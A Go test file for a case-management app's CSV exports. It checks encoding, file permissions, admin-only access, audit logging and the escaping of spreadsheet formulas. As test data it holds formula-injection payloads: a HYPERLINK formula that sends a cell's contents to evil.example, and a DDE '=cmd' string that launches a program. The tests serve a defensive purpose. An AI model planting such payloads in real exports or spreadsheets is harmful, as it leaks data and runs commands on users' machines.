package data

import (
	"bytes"
	"context"
	"encoding/csv"
	"errors"
	"os"
	"path/filepath"
	"strings"
	"testing"

	"casedesk/app"
	"casedesk/app/desk"
	"casedesk/app/portal"
)

// readCSV reads an export back as a spreadsheet would: it must start with
// UTF-8's byte-order mark and end every line with CRLF.
func readCSV(t *testing.T, path string) [][]string {
	t.Helper()
	b, err := os.ReadFile(path)
	if err != nil {
		t.Fatal(err)
	}
	if fi, _ := os.Stat(path); fi.Mode().Perm() != 0o600 {
		t.Errorf("%s has mode %v", path, fi.Mode().Perm())
	}
	if !bytes.HasPrefix(b, []byte("\xEF\xBB\xBF")) {
		t.Fatalf("%s has no byte-order mark", path)
	}
	if n, crlf := bytes.Count(b, []byte("\n")), bytes.Count(b, []byte("\r\n")); n != crlf {
		t.Errorf("%d line ends, %d of them CRLF", n, crlf)
	}
	r := csv.NewReader(bytes.NewReader(b[3:]))
	r.FieldsPerRecord = -1
	rows, err := r.ReadAll()
	if err != nil {
		t.Fatal(err)
	}
	return rows
}

// A client whose name is a formula is exported neutralised: the cell
// starts with a quote and keeps the rest of the text; accents arrive intact.
func TestExportNeutralisesFormulas(t *testing.T) {
	s := openTest(t)
	admin, _, _ := reportDesks(t, s)
	ctx := context.Background()
	hostile := []string{`=HYPERLINK("http://evil.example/?x="&A1,"Click")`, "+1", "-2", "@SUM(A1:A9)", "\tTab", "\rReturn", "=1+1"}
	for i, name := range hostile {
		c := newClient("Zoë", name, app.NewDate(1980, 1, 1), app.ANumber("A00000000"+string(rune('1'+i))))
		c.Address.Line1 = "=cmd|' /C calc'!A0"
		mustClient(t, s, c)
	}
	mustClient(t, s, newClient("José Ñandú", "Muñoz-Çelik", app.NewDate(1975, 5, 6), ""))
	path := filepath.Join(t.TempDir(), "clients.csv")
	n, err := admin.ExportClients(ctx, path, false)
	if err != nil || n != len(hostile)+1 {
		t.Fatalf("export: %d, %v", n, err)
	}
	rows := readCSV(t, path)
	if strings.Join(rows[0], ",") != strings.Join(desk.ExportClientColumns, ",") {
		t.Errorf("header %v", rows[0])
	}
	col := func(name string) int {
		for i, c := range desk.ExportClientColumns {
			if c == name {
				return i
			}
		}
		t.Fatalf("no column %s", name)
		return 0
	}
	family, given, line1, dob := col("Family name"), col("Given name"), col("Address line 1"), col("Date of birth")
	found := map[string]bool{}
	for _, r := range rows[1:] {
		found[r[family]] = true
		if r[family] != "Muñoz-Çelik" && r[line1] != "'=cmd|' /C calc'!A0" {
			t.Errorf("address %q", r[line1])
		}
		for _, cell := range r {
			if cell != "" && strings.ContainsRune("=+-@\t\r", rune(cell[0])) {
				t.Errorf("a cell a spreadsheet would run: %q", cell)
			}
		}
		if r[family] == "Muñoz-Çelik" && (r[given] != "José Ñandú" || r[dob] != "1975-05-06") {
			t.Errorf("accented row %v", r)
		}
	}
	for _, name := range hostile {
		// CSV's line ends drop a lone carriage return inside a cell.
		name = strings.ReplaceAll(name, "\r", "")
		if !found["'"+name] {
			t.Errorf("%q not exported as %q: %v", name, "'"+name, found)
		}
	}
	if !found["Muñoz-Çelik"] {
		t.Errorf("accented name lost: %v", found)
	}
	// Audited with the count, never a name.
	var detail string
	s.db.QueryRow(`SELECT detail FROM audit_events WHERE action = 'export.clients' AND actor_id = 'ada'`).Scan(&detail)
	if detail != "8 clients" {
		t.Errorf("audit detail %q", detail)
	}
}

func TestExportCasesAndAudit(t *testing.T) {
	s := reportStore(t)
	admin, _, _ := reportDesks(t, s)
	ctx := context.Background()
	dir := t.TempDir()
	n, err := admin.ExportCases(ctx, filepath.Join(dir, "cases.csv"), false)
	if err != nil || n != 7 {
		t.Fatalf("cases: %d %v", n, err)
	}
	rows := readCSV(t, filepath.Join(dir, "cases.csv"))
	// By date received: Eva's petition of May 2025 first.
	if got := strings.Join(append(rows[1][:8:8], rows[1][9:]...), "|"); got != "IOE0000000003|I-130||Eva|Egea|1980-01-01|2025-05-01||Case Was Denied|2025-10-01" {
		t.Errorf("first case %s", got)
	}
	n, err = admin.ExportAudit(ctx, filepath.Join(dir, "audit.csv"), false)
	if err != nil {
		t.Fatal(err)
	}
	rows = readCSV(t, filepath.Join(dir, "audit.csv"))
	if len(rows) != n+1 || rows[0][0] != "At (UTC)" {
		t.Errorf("%d rows for %d", len(rows), n)
	}
	// Oldest first: the printed notice of December 31 comes before January's.
	var printed []string
	for _, r := range rows[1:] {
		if r[2] == desk.ActionNoticePrinted {
			printed = append(printed, r[0])
		}
	}
	if strings.Join(printed, ",") != "2026-01-01 05:59:59,2026-01-31 23:00:00,2026-04-01 04:30:00,2026-04-01 05:00:00" {
		t.Errorf("printed rows %v", printed)
	}
	if c := count(t, s, `SELECT count(*) FROM audit_events WHERE action IN ('export.cases', 'export.audit')`); c != 2 {
		t.Errorf("%d export rows audited", c)
	}
}

// Exports are personal data in bulk: a plain staff member and a
// signed-out session are refused, and write no file and no audit row.
func TestExportWhoMay(t *testing.T) {
	s := reportStore(t)
	admin, staff, out := reportDesks(t, s)
	ctx := context.Background()
	dir := t.TempDir()
	exports := map[string]func(*desk.Desk, string) error{
		"clients": func(d *desk.Desk, p string) error { _, err := d.ExportClients(ctx, p, false); return err },
		"cases":   func(d *desk.Desk, p string) error { _, err := d.ExportCases(ctx, p, false); return err },
		"audit":   func(d *desk.Desk, p string) error { _, err := d.ExportAudit(ctx, p, false); return err },
	}
	before := count(t, s, `SELECT count(*) FROM audit_events`)
	for name, export := range exports {
		p := filepath.Join(dir, name+".csv")
		if err := export(staff, p); !errors.Is(err, desk.ErrNotAdmin) {
			t.Errorf("staff exports %s: %v", name, err)
		}
		if err := export(out, p); !errors.Is(err, portal.ErrSignedOut) {
			t.Errorf("signed out exports %s: %v", name, err)
		}
		if err := export(&desk.Desk{}, p); !errors.Is(err, desk.ErrNotStaff) {
			t.Errorf("nobody exports %s: %v", name, err)
		}
		if _, err := os.Stat(p); err == nil {
			t.Errorf("a refused export of %s wrote its file", name)
		}
	}
	if after := count(t, s, `SELECT count(*) FROM audit_events`); after != before {
		t.Errorf("refused exports wrote %d audit rows", after-before)
	}
	// A file in the way is kept unless replacing is asked for.
	p := filepath.Join(dir, "clients.csv")
	os.WriteFile(p, []byte("keep me"), 0o600)
	if err := exports["clients"](admin, p); !errors.Is(err, os.ErrExist) {
		t.Errorf("over a file: %v", err)
	}
	if b, _ := os.ReadFile(p); string(b) != "keep me" {
		t.Errorf("the file was replaced: %q", b)
	}
	if _, err := admin.ExportClients(ctx, p, true); err != nil {
		t.Errorf("replace: %v", err)
	}
	if left, _ := filepath.Glob(filepath.Join(dir, ".*part")); len(left) != 0 {
		t.Errorf("temporary files left: %v", left)
	}
}

func TestNeutralise(t *testing.T) {
	for in, want := range map[string]string{
		"": "", "Ana": "Ana", "=1": "'=1", "+1": "'+1", "-2": "'-2", "@SUM": "'@SUM", "\tx": "'\tx", "\rx": "'\rx",
		"a=b": "a=b", "'=x": "'=x", "Ñ=": "Ñ=",
	} {
		if got := desk.Neutralise(in); got != want {
			t.Errorf("Neutralise(%q) = %q; want %q", in, got, want)
		}
	}
}
